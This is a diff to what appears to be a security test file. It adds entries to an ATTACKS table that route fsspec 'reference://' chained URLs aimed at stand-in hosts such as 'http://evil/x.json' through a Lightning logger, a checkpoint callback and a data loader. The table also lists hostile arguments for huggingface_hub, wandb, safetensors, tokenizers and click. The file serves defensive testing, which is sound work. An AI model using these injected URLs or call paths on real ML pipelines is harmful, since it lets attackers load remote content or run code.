@@ -171,6 +171,15 @@ ATTACKS: dict[str, dict[str, Any]] = {
     "huggingface_hub": called("huggingface_hub.snapshot_download", "evil/evil"),
     "wandb": called("wandb.init"),
     "wandb's launch": called("wandb.sdk.launch.launch", "evil"),
+    "fsspec's templates, by a logger": called(
+        "lightning.pytorch.loggers.CSVLogger", "reference://::file:///tmp/evil.json", name="x"
+    ),
+    "fsspec's templates, by a callback": called(
+        "lightning.pytorch.callbacks.ModelCheckpoint", dirpath="s3://a::reference::http://evil/x.json"
+    ),
+    "fsspec's templates, by our data": called(
+        "trainer.data.token_shards.TokenShards", root="reference://::http://evil/x.json", sequence_length=8
+    ),
     "safetensors": called("safetensors.torch.save_file", {}, "PWNED"),
     "tokenizers": called("tokenizers.Tokenizer.from_file", "evil"),
     "click": called("click.edit", "x", editor=COMMAND),
